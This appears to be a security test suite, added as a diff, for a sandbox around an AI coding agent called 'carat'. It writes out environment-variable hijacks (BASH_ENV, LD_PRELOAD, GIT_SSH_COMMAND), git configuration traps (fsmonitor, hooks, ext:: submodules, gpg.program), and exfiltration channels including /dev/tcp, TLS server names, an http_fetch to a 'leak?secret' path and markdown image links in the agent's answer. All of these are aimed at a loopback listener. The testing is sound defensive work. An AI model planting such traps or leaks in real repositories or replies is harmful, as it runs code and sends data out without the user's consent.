@@ -1,0 +1,216 @@
+#!/usr/bin/env python3
+"""E and G: what the environment and a repository make other programs run, and D: ways for a word to leave the machine.
+
+E: carat is started with the variable; a tool's command must not have it. G: a trap that a host's own git springs (the control)
+lies in the workspace; carat looks at everything, changes, takes back, and runs the same git in a tool's command; nothing
+outside the workspace may have happened. D: a listener on the loopback must hear nothing.
+"""
+import socket
+
+from rows import *
+
+VARIABLES = [
+    ("E02", "BASH_ENV", "{work}/trap.sh", "bash -c true", True),
+    ("E03", "ENV", "{work}/trap.sh", "sh -i -c true", True),
+    ("E04", "LD_PRELOAD", "{root}/nothing.so", "env", False),
+    ("E05", "LD_AUDIT", "{root}/nothing.so", "env", False),
+    ("E06", "GIT_SSH_COMMAND", "{work}/trap.sh", "git ls-remote ssh://127.0.0.1/x", True),
+    ("E07", "PAGER", "{work}/trap.sh", "env", False),
+    ("E08", "PYTHONPATH", "{work}", "python3 -c 1", True),
+    ("E09", "NODE_OPTIONS", "--require={work}/trap.js", "env", False),
+    ("E10", "TERMINFO", "{work}/terminfo", "env", False),
+    ("E11", "LOCPATH", "{work}/locale", "env", False),
+]
+
+
+def trap(place):
+    """A script that leaves a mark beside itself, by every name that a program may look for."""
+    for name, text in (("trap.sh", "#!/bin/sh\ntouch {0}/mark\n"), ("sitecustomize.py", "open('{0}/mark', 'w')\n")):
+        place.write(name, text.format(place.work))
+        os.chmod(os.path.join(place.work, name), 0o755)
+
+
+def environment():
+    outcome = []
+    for inside in (False, True):
+        with Place() as place:
+            trap(place)
+            values = {name: value.format(work=place.work, root=place.root) for _, name, value, _, _ in VARIABLES}
+            found = {}
+            commands = [f"rm -f mark; {command}; ls mark; env  # {name}" for _, name, _, command, _ in VARIABLES]
+            if inside:
+                texts = [text for text, _ in Session(place, *[call("shell", command=command) for command in commands], env=values).whole(len(commands))]
+            else:
+                texts = [freely(command, place.work, env={name: values[name]}).stdout for command, (_, name, _, _, _) in zip(commands, VARIABLES)]
+            for (number, name, _, _, _), text in zip(VARIABLES, texts):
+                found[number] = (f"{name}={values[name]}" in text, "mark" in text.splitlines())
+            outcome.append(found)
+    for number, name, _, _, springs in VARIABLES:
+        (has, sprung), inside = outcome[0][number], outcome[1][number]
+        report(number, name, any(inside) and f"{inside}", has and (sprung or not springs))
+    outcome = []
+    for inside in (False, True):  # programs that carat itself starts, by the names that PATH would find
+        with Place() as place:
+            for name in ("git", "sh", "bwrap", "env", "carat-tool", "python3"):
+                place.write(name, f"#!/bin/sh\n: > {place.root}/mark\n")
+                os.chmod(os.path.join(place.work, name), 0o755)
+            variable = {"PATH": ".:" + os.environ["PATH"]}
+            if inside:
+                said = Session(place, call("shell", command="git --version"), call("list_files"), env=variable).whole(2)
+                check("git version" in said[0][0], said)
+            else:
+                subprocess.run(["git", "--version"], cwd=place.work, env=dict(os.environ, **variable), capture_output=True)
+            outcome.append(exists(place.root, "mark"))
+    report("E01", "./git, ./sh, ./bwrap with . in PATH", outcome[1] and "it ran", outcome[0])
+    with Place() as place:
+        other = os.path.join(place.root, "other")
+        place.write(".env", f"CARAT_HOME={other}\nCARAT_MODEL=/nothing\nSPRUNG=yes\n")
+        said = Session(place, call("shell", command="env")).whole(1)
+        control = freely("set -a; . ./.env; env", place.work).stdout
+        report("E12", ".env in the workspace", (exists(other) or "SPRUNG" in said[0][0]) and "it was read", "SPRUNG=yes" in control)
+
+
+# --- git ---
+
+def hook(folder):
+    return f"mkdir -p {folder}/hooks; printf '#!/bin/sh\\ntouch MARK\\n' > {folder}/hooks/post-commit; chmod +x {folder}/hooks/post-commit; "
+
+
+GIT = [  # id, what, how the trap is laid in a repository, what springs it
+    ("G01", "hook of a nested repository", "git init -q sub/inner; " + hook("sub/inner/.git"), "git -C sub/inner commit -q --allow-empty -m x"),
+    ("G02", "hook of a new repository", "git init -q new; " + hook("new/.git"), "git -C new commit -q --allow-empty -m x"),
+    ("G03", "core.fsmonitor", "git config core.fsmonitor 'touch MARK;'", "git status"),
+    ("G04", "core.sshCommand", "git config core.sshCommand 'touch MARK;'", "git ls-remote ssh://127.0.0.1/x"),
+    ("G05", "core.pager", "git config core.pager 'touch MARK;'; git config pager.log true", "script -qec 'git log' /dev/null"),
+    ("G06", "diff.external", "git config diff.external 'touch MARK;'; echo more >> plain", "git diff"),
+    ("G07", "filter.clean by .gitattributes", "git config filter.x.clean 'touch MARK;cat'; echo '* filter=x' > .gitattributes; echo more >> plain", "git add plain"),
+    ("G08", "include.path", "git config include.path ../more; printf '[core]\\nfsmonitor=\"touch MARK;\"\\n' > more", "git status"),
+    ("G09", "submodule ext::", "git config protocol.ext.allow always; git config submodule.x.url 'ext::touch MARK'; "
+     "git config submodule.x.active true; printf '[submodule \"x\"]\\n path=x\\n url=ext::touch MARK\\n' > .gitmodules; "
+     "git add .gitmodules; git update-index --add --cacheinfo 160000,$(git rev-parse HEAD),x", "GIT_ALLOW_PROTOCOL=ext git submodule update --init"),
+    ("G10", "bare repository in the tree", "git init -q --bare bare; git -C bare config core.fsmonitor 'touch MARK;'; git -C bare config core.bare false; "
+     "git -C bare config core.worktree .", "cd bare && git status"),
+    ("G11", "worktree whose .git leads out", "git init -q ../far; git -C ../far config core.fsmonitor 'touch MARK;'; mkdir tree; "
+     "echo \"gitdir: $PWD/../far/.git\" > tree/.git", "git -C tree status"),
+    ("G12", "gitdir: of a link", "git init -q ../far; git -C ../far config core.fsmonitor 'touch MARK;'; mkdir tree; ln -s ../../far/.git tree/.git", "git -C tree status"),
+    ("G13", "alias", "git config alias.st '!touch MARK'", "git st"),
+    ("G14", "gpg.program", "git config commit.gpgSign true; git config gpg.program $PWD/sign; printf '#!/bin/sh\\ntouch MARK\\n' > sign; chmod +x sign",
+     "git commit -q --allow-empty -m x"),
+]
+IDENTITY = {"GIT_AUTHOR_NAME": "x", "GIT_AUTHOR_EMAIL": "x@x", "GIT_COMMITTER_NAME": "x", "GIT_COMMITTER_EMAIL": "x@x", "GIT_TERMINAL_PROMPT": "0"}
+
+
+def git():
+    """Each trap in a folder of its own beneath the workspace, with a mark of its own outside."""
+    marks = []
+    for inside in (False, True):
+        with Place() as place:
+            identity = dict(IDENTITY, HOME=place.home, GIT_CONFIG_GLOBAL="/dev/null")
+            calls = []
+            for number, _, lay, spring in GIT:
+                folder = os.path.join(place.work, number)
+                os.mkdir(folder)
+                freely("git init -q .; echo plain > plain; git add plain; git commit -q -m x; " +
+                       lay.replace("MARK", os.path.join(place.root, "mark-" + number)), folder, env=identity)
+                if inside:
+                    calls += [call("read_file", path=number + "/plain"), call("edit_file", path=number + "/plain", old_text="plain", new_text="other"),
+                              call("shell", command=f"cd {number}; {spring}; true", timeout_s=5)]
+                else:
+                    freely(spring, folder, env=identity)
+            if inside:
+                place.env.update(identity)
+                Session(place, call("list_files"), call("search_files", pattern="plain"), *calls).whole(2 + len(calls))
+                place.carat("undo", code=None)
+                place.carat("exec", "hello", code=None)
+            marks.append({name for name in os.listdir(place.root) if name.startswith("mark-")})
+    for number, name, _, _ in GIT:
+        report(number, name, "mark-" + number in marks[1] and "the trap was sprung outside", "mark-" + number in marks[0])
+
+
+# --- words that leave ---
+
+EXITS = [
+    ("D02", "UDP, as a query to port 53", "python3 -c \"import socket; socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b'x', ('127.0.0.1', PORT))\""),
+    ("D04", "/dev/tcp", "exec bash -c 'echo x > /dev/tcp/127.0.0.1/PORT'"),
+    ("D05", "a name in the TLS hello", "python3 -c \"import socket, ssl; c = ssl.create_default_context(); c.check_hostname = False; "
+     "s = socket.create_connection(('127.0.0.1', PORT), 2); s.settimeout(1); c.wrap_socket(s, server_hostname='secret.example')\""),
+    ("D06", "a relay that the command starts", "python3 -c \"import socket, threading, urllib.request as u; "
+     "l = socket.create_server(('127.0.0.1', 0)); "
+     "threading.Thread(target=lambda: (l.accept(), socket.create_connection(('127.0.0.1', PORT), 2)), daemon=True).start(); "
+     "u.urlopen('http://127.0.0.1:%d/' % l.getsockname()[1], timeout=1)\""),
+]
+
+
+class Listeners:
+    def __enter__(self):
+        self.tcp = socket.create_server(("127.0.0.1", 0))
+        self.port = self.tcp.getsockname()[1]
+        self.udp = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
+        self.udp.bind(("127.0.0.1", self.port))
+        self.tcp.setblocking(False)
+        self.udp.setblocking(False)
+        return self
+
+    def heard(self):
+        count = 0
+        for take in (self.tcp.accept, lambda: self.udp.recv(99)):
+            try:
+                while True:
+                    take()
+                    count += 1
+            except BlockingIOError:
+                pass
+        return count
+
+    def __exit__(self, *unused):
+        self.tcp.close()
+        self.udp.close()
+
+
+def exits():
+    for number, name, command in EXITS:
+        with Place() as place, Listeners() as listeners:
+            command = command.replace("PORT", str(listeners.port))
+            freely(command, place.work)
+            free = listeners.heard()
+            Session(place, call("shell", command=command)).whole(1)
+            report(number, name, listeners.heard() and "it was heard", free > 0)
+    with Place() as place:
+        look = "readlink /proc/self/ns/net; tail -n +3 /proc/net/dev | cut -d: -f1; python3 -c \"import socket; print(socket.getaddrinfo('secret.example.org', 80))\""
+        said = Session(place, call("shell", command=look)).whole(1)[0][0]
+        links = [line.strip() for line in said.splitlines() if line.strip() in os.listdir("/sys/class/net")]
+        through = os.readlink("/proc/self/ns/net") in said or "gaierror" not in said or links != ["lo"]
+        report("D01", "a name asked for by getaddrinfo", through and said, os.readlink("/proc/self/ns/net") in freely(look, place.work).stdout)
+        ping = "python3 -c \"import socket; s = socket.socket(socket.AF_INET, KIND, 1); s.sendto(b'\\\\x08\\\\0\\\\xf7\\\\xff\\\\0\\\\0\\\\0\\\\0', ('127.0.0.1', 0)); print('sent')\""
+        both = " ; ".join(ping.replace("KIND", kind) for kind in ("socket.SOCK_DGRAM", "socket.SOCK_RAW"))
+        said = Session(place, call("shell", command=both)).whole(1)[0][0]
+        report("D03", "ICMP", "sent" in said and said, True if "sent" in freely(both, place.work).stdout else None)
+    with Place() as place, Listeners() as listeners:
+        host = f"127.0.0.1:{listeners.port}"
+        def run(*words):
+            return place.carat("exec", "--mode", "ask", "--allow-host", host, *words, "-m",
+                               script(place, call("http_fetch", url=f"http://{host}/leak?secret"), "Done."), "go", code=None)
+        asked = run("--allow", f"http_fetch(http://{host}/)")
+        heard = listeners.heard()
+        control = subprocess.Popen([CARAT, "exec", "--mode", "full", "--allow-host", host, "--max-seconds", "2", "-m",
+                                    script(place, call("http_fetch", url=f"http://{host}/leak?secret"), "Done."), "go"],
+                                   cwd=place.work, env=place.env, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
+        control.wait(PATIENCE)
+        report("D07", "another path of an allowed host", (asked.returncode != 55 or heard) and "no question", listeners.heard() > 0)
+    with Place() as place, Listeners() as listeners:
+        link = f"![x](http://127.0.0.1:{listeners.port}/?secret) [y](http://127.0.0.1:{listeners.port}/) <img src='http://127.0.0.1:{listeners.port}/z'>"
+        place.write("page.md", link)
+        Session(place, call("read_file", path="page.md"), words=("--allow-host", f"127.0.0.1:{listeners.port}")).whole(1)
+        run = place.carat("exec", "--allow-host", f"127.0.0.1:{listeners.port}", "-m", script(place, link), "go")
+        heard = listeners.heard()
+        socket.create_connection(("127.0.0.1", listeners.port)).close()
+        report("D08", "a picture and a link in an answer", heard and "it was fetched", listeners.heard() > 0 and "127.0.0.1" in run.stdout)
+
+
+def case_rows():
+    environment()
+    git()
+    exits()
+
+
+main(globals())
